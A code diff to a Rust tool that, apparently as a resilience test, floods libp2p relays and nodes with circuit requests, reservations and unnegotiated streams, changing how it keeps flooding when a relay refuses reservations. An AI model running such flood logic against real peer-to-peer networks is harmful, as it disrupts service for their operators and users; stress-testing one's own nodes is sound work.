@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use anyhow::{Context, Result, bail};
+use anyhow::{Result, bail};
 use futures::{AsyncReadExt, AsyncWriteExt};
 use kaspath_transport_libp2p::STREAM_PROTOCOL;
 use libp2p::{PeerId, core::muxing::SubstreamBox, identity::Keypair};
@@ -28,6 +28,8 @@ const SINKS: usize = 4;
 /// What one of its connections asks for.
 const CIRCUITS: usize = 4;
 const STREAMS: usize = 64;
+/// Streams of a connection that is one of many.
+const FEW_STREAMS: usize = 16;
 /// So many connections to each target do what costs the attacker most.
 const HEAVY: u64 = 4;
 /// Bytes on a stream that nobody reads: less than a window, so that they leave.
@@ -51,9 +53,11 @@ impl Attack {
         if kind == AttackKind::CircuitOpening {
             for _ in 0..SINKS {
                 let key = Keypair::generate_ed25519();
+                // Where the relay gives no reservation, circuits to it are asked for all the same.
                 sinks.push(key.public().to_peer_id());
-                let connection = reserve(&key, relay, false).await.context("no reservation before the flood")?;
-                tokio::spawn(take_circuits(connection));
+                if let Ok(connection) = reserve(&key, relay, false).await {
+                    tokio::spawn(take_circuits(connection));
+                }
             }
         }
         Ok(Self { kind, relay: relay.clone(), bomb, sinks })
@@ -265,7 +269,7 @@ async fn open_and_close(n: u64, victim: &Victim) -> Result<()> {
 async fn negotiate_nothing(n: u64, victim: &Victim) -> Result<()> {
     let connection = connect(n, victim).await?;
     let mut held = Vec::new();
-    for i in 0..STREAMS {
+    for i in 0..if n < HEAVY { STREAMS } else { FEW_STREAMS } {
         let mut stream = connection.stream().await?;
         if n < HEAVY && i % 2 == 0 && victim.kind == TargetKind::Relay {
             // Nobody at a relay accepts these.
